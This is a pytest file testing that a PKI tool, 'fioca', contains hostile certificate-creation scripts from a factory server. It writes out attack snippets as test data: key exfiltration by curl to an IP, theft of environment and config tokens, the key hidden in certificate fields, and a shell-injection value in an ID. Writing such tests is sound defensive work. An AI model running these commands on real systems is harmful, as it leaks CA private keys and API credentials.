"""A hostile factory server can do no harm (issue 10), proven at run time.

Each case is a server that sends hostile scripts or answers. The audit condemns most of them
before anything runs; these tests run them *anyway* (`--allow-unaudited`) to prove the second
line holds on its own: the jail, outputs taken as regular files, the checks of what each
script made against what its text asked, and the whole check of the stored bytes right
before the upload. Every case ends with one ERROR line, nothing uploaded, no process left,
nothing of the user's changed and no copy of a key outside the PKI dir.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from fioca import facts
from fioca.pki import reference
from tests.conftest import FACTORY, answer_with, server_certs

MARKER = "fioca-hostile-marker"  # in every process a hostile script starts, so a survivor is found


def api_scripts(sandbox) -> dict[str, str]:
    cn = f"fio-{sandbox.backend.user_self()['polis-id']}"
    return reference.api_scripts("api-2026", factory=FACTORY, local_ca_cn=cn)


def replaced(script: str, old: str, new: str) -> Callable[[dict[str, str]], dict[str, str]]:
    def change(scripts: dict[str, str]) -> dict[str, str]:
        assert old in scripts[script], f"{old!r} not in {script}"
        return {script: scripts[script].replace(old, new, 1)}

    return change


@dataclass(frozen=True)
class Case:
    name: str
    change: Callable[[dict[str, str]], dict[str, str]]
    message: str  # a part of the one ERROR line
    args: tuple[str, ...] = ("--allow-unaudited",)


KEY_HEX = "openssl ec -in factory_ca.key -noout -text 2>/dev/null | grep -A3 priv: | tail -n 3 | tr -d ' :\\n'"

# `openssl ca -selfsign` takes a start date, which `req -x509` does not.
BACKDATED_ROOT = """mkdir -p db; : > db/index.txt; echo 01 > db/serial
cat >> ca.cnf <<X
[ca]
default_ca = c
[c]
database = db/index.txt
serial = db/serial
new_certs_dir = db
default_md = sha256
policy = p
[p]
commonName = supplied
organizationalUnitName = supplied
X
openssl req -new -config ca.cnf -key "$key" -out root.csr
openssl ca -batch -notext -selfsign -config ca.cnf -keyfile "$key" -in root.csr \\
	-startdate 20070301000000Z -enddate 20270224000000Z -extensions ext -out factory_ca.pem"""

CASES = [
    # The root key hidden in fields of what is uploaded.
    Case(
        "root key in the root's subjectKeyIdentifier",
        replaced(
            "create_ca",
            'openssl req $extra -new -x509',
            f'echo "subjectKeyIdentifier = $({KEY_HEX})" >> ca.cnf\nopenssl req $extra -new -x509',
        ),
        "subjectKeyIdentifier is not the SHA-1 of the public key",
    ),
    Case(
        "root key in the gateway certificate's serial",
        replaced("sign_tls_csr", "-CAcreateserial", f'-set_serial "0x$({KEY_HEX})"'),
        "bits; RFC 5280 allows a positive serial of at most 20 octets",
    ),
    # A root the server chose: backdated, or limited in path length.
    Case(
        "root valid from 2007, exactly 7300 days, expiring within months",
        replaced(
            "create_ca",
            'openssl req $extra -new -x509 -days 7300 -config ca.cnf -key "$key" -out factory_ca.pem -sha256',
            BACKDATED_ROOT,
        ),
        "notBefore 2007-03-01T00:00:00+00:00 is not within 15 minutes of when it was made",
    ),
    Case(
        "root with pathlen:0",
        replaced("create_ca", "basicConstraints=CA:TRUE", "basicConstraints=CA:TRUE, pathlen:0"),
        "basicConstraints pathlen:0 on the root leaves no room for the device CAs",
    ),
    # Outputs that are not what they seem.
    # (The jail has no ln or mkfifo: GNU cp makes the links, a folder stands in for a FIFO.)
    Case(
        "the root certificate a symlink",
        replaced("create_ca", "rm ca.cnf", "mv factory_ca.pem real.pem && cp -s /work/real.pem factory_ca.pem\nrm ca.cnf"),
        "factory_ca.pem is a symbolic link; fioca takes only regular files",
    ),
    Case(
        "the root key a hard link",
        replaced("create_ca", "rm ca.cnf", "cp -l factory_ca.key factory_ca.key.copy\nrm ca.cnf"),
        "factory_ca.key has 2 hard links",
    ),
    Case(
        "the local CA certificate a folder",
        replaced("create_device_ca", "$here/sign_ca_csr device-ca.csr > $crt", "mkdir $crt"),
        "local-ca.pem is a folder, not a regular file",
    ),
    # A later script rewriting what an earlier step made.
    Case(
        "sign_ca_csr re-signs tls-crt as a CA",
        replaced(
            "sign_ca_csr",
            "rm ca.ext",
            "openssl x509 -req -days 3650 -in tls-csr -CA factory_ca.pem -CAkey factory_ca.key -extfile ca.ext "
            "-out tls-crt 2>/dev/null || true\nrm ca.ext",
        ),
        None,  # contained: the step's work dir holds no tls-crt to change, nothing of it is taken
    ),
    # The key copied out, by every road the audit names.
    Case(
        "sed's e command copies the key to /tmp",
        replaced("create_ca", "rm ca.cnf", "echo x | sed 'e cp factory_ca.key /tmp/" + MARKER + "-sed'\nrm ca.cnf"),
        None,  # contained: the jail's /tmp is its own
    ),
    Case(
        "cp -t to a computed path outside",
        replaced("create_ca", "rm ca.cnf", "cp -t $(printf '/%s' root) factory_ca.key || true\nrm ca.cnf"),
        None,
    ),
    Case(
        "a daemon that outlives the script and copies the key later",
        replaced(
            "create_ca",
            "rm ca.cnf",
            f"setsid -f sh -c 'sleep 3; cp factory_ca.key /tmp/{MARKER}-late; : {MARKER}' || "
            f"(sh -c 'sleep 3; : {MARKER}' &)\nrm ca.cnf",
        ),
        None,
    ),
    # The network, in every guise.
    Case(
        "network through an alias and /dev/tcp",
        replaced("create_ca", "rm ca.cnf", "alias c=curl\n(c -s https://198.51.100.7/ -d @factory_ca.key || true)\nrm ca.cnf"),
        None,
    ),
    Case(
        "the API token from the parent's environment",
        replaced(
            "create_ca",
            "rm ca.cnf",
            "cat $(printf '/proc/%s/environ' \"$PPID\") > leaked.env 2>/dev/null || true\n"
            "cat ~/.config/fioctl.yaml >> leaked.env 2>/dev/null || true\nrm ca.cnf",
        ),
        None,
    ),
]


def _processes_with(marker: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if marker in cmdline and "pytest" not in cmdline:
                found.append(cmdline)
    return found


def _files_holding(data: bytes, *roots: Path) -> list[str]:
    found = []
    for root in roots:
        for path in root.rglob("*"):
            try:
                if path.is_file() and not path.is_symlink() and data in path.read_bytes():
                    found.append(str(path))
            except OSError:
                continue
    return found


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_hostile_scripts_do_no_harm(cli, sandbox, sandbox_env, recorder, tmp_path, home, monkeypatch, case):
    secret_file = home / ".ssh" / "authorized_keys"
    secret_file.parent.mkdir(mode=0o700)
    secret_file.write_text("ssh-ed25519 AAAA user@host\n")
    answer_with(monkeypatch, sandbox, case.change(api_scripts(sandbox)))
    pki = tmp_path / "pki"
    result = cli("keys", "ca", "create", pki, "--yes", *case.args, env=sandbox_env)

    # Nothing of the user's changed, no process left, no copy of a key outside the PKI dir.
    assert secret_file.read_text() == "ssh-ed25519 AAAA user@host\n"
    assert _processes_with(MARKER) == []
    for key_name in (facts.ROOT_KEY, facts.LOCAL_CA_KEY):
        if (pki / key_name).is_file():
            key = (pki / key_name).read_bytes()
            assert _files_holding(key, home) == []
            assert [p for p in _files_holding(key, tmp_path) if not p.startswith(str(pki) + "/")] == []
    assert not list(Path("/tmp").glob(f"{MARKER}*"))
    token = sandbox.info.token
    for path in pki.rglob("*"):
        if path.is_file():
            assert token.encode() not in path.read_bytes()

    if case.message is None:
        # Contained: create may finish, and then what it uploaded is exactly what it checked.
        patches = [body for method, body in recorder if method == "PATCH"]
        if result.exit_code == 0:
            (body,) = patches
            assert body["tls-crt"] == (pki / facts.TLS_CERT).read_text()
            assert token not in json.dumps(body)
        else:
            assert patches == [], result.output
        return
    assert result.exit_code != 0, result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("ERROR:")]
    assert len(errors) == 1, result.stderr
    assert case.message in errors[0]
    assert [method for method, _ in recorder if method == "PATCH"] == []
    assert server_certs(sandbox)[0] == 206


def test_a_late_daemon_is_gone_when_create_ends(cli, sandbox, sandbox_env, monkeypatch, tmp_path):
    """The PID namespace dies with the script: nothing it started is there a moment later."""
    change = replaced("create_ca", "rm ca.cnf", f"(sleep 30; : {MARKER}) &\nrm ca.cnf")
    answer_with(monkeypatch, sandbox, change(api_scripts(sandbox)))
    cli("keys", "ca", "create", tmp_path / "pki", "--yes", "--allow-unaudited", env=sandbox_env)
    assert _processes_with(MARKER) == []


def test_polis_id_with_shell_code_is_refused_before_any_script(cli, sandbox, sandbox_env, recorder, monkeypatch, tmp_path):
    real = sandbox.backend.user_self
    monkeypatch.setattr(sandbox.backend, "user_self", lambda: {**real(), "polis-id": "1$(touch /tmp/pwned)"})
    result = cli("keys", "ca", "create", tmp_path / "pki", "--yes", env=sandbox_env)
    assert result.exit_code != 0
    assert "polis-id" in result.stderr
    assert not Path("/tmp/pwned").exists()
    assert [method for method, _ in recorder] == ["POST"]


def test_a_planted_work_dir_symlink_is_refused(cli, sandbox, sandbox_env, recorder, monkeypatch, tmp_path):
    """A run that stopped halfway is resumed; its work dir was replaced by a symlink meanwhile."""
    change = replaced("sign_tls_csr", "rm server.ext", "exit 7\nrm server.ext")
    answer_with(monkeypatch, sandbox, change(api_scripts(sandbox)))
    pki = tmp_path / "pki"
    assert cli("keys", "ca", "create", pki, "--yes", "--allow-unaudited", env=sandbox_env).exit_code == 5
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (pki / facts.work_dir_of("sign_tls_csr")).symlink_to(elsewhere)
    result = cli("keys", "ca", "create", pki, "--yes", "--resume", "--allow-unaudited", env=sandbox_env)
    assert result.exit_code == 3, result.output
    assert facts.work_dir_of("sign_tls_csr") in result.stderr
    assert list(elsewhere.iterdir()) == []


def test_a_pki_dir_of_another_user_is_refused_before_anything_is_sent(cli, sandbox_env, recorder, tmp_path):
    pki = tmp_path / "pki"
    pki.mkdir(mode=0o700)
    os.chown(pki, 65534, 65534)
    result = cli("keys", "ca", "create", pki, "--yes", env=sandbox_env)
    assert result.exit_code == 3, result.output
    assert "owned by another user" in result.stderr
    assert recorder == []


def test_a_pki_dir_writable_by_others_is_refused(cli, sandbox_env, recorder, tmp_path):
    pki = tmp_path / "pki"
    pki.mkdir()
    os.chmod(pki, 0o777)
    (pki / "notes.txt").write_text("mine\n")
    result = cli("keys", "ca", "create", pki, "--yes", env=sandbox_env)
    assert result.exit_code == 3, result.output
    assert "writable by group or others" in result.stderr
    assert recorder == []
    assert oct(pki.stat().st_mode & 0o777) == "0o777"  # never chmod-ed silently


def test_reissue_uploads_certificates_the_scripts_did_not_sign(cli, sandbox, sandbox_env, recorder, monkeypatch, tmp_path):
    """--reissue: even a serial chosen by the script (here: the root key) never leaves."""
    change = replaced("sign_tls_csr", "-CAcreateserial", '-set_serial "0x$(openssl ec -in factory_ca.key -noout -text 2>/dev/null | grep -A1 priv: | tail -n 1 | tr -d \' :\\n\')"')
    answer_with(monkeypatch, sandbox, change(api_scripts(sandbox)))
    pki = tmp_path / "pki"
    result = cli("keys", "ca", "create", pki, "--yes", "--allow-unaudited", "--reissue", env=sandbox_env)
    assert result.exit_code == 0, result.output
    (body,) = [body for method, body in recorder if method == "PATCH"]
    key_text = subprocess.run(
        ["openssl", "ec", "-in", str(pki / facts.ROOT_KEY), "-noout", "-text"], capture_output=True, text=True
    ).stdout
    secret_hex = "".join(key_text.split("priv:")[1].split("pub:")[0].split()).replace(":", "")
    serial = subprocess.run(
        ["openssl", "x509", "-noout", "-serial"], input=body["tls-crt"], capture_output=True, text=True
    ).stdout
    assert secret_hex[:16].upper() not in serial.upper()
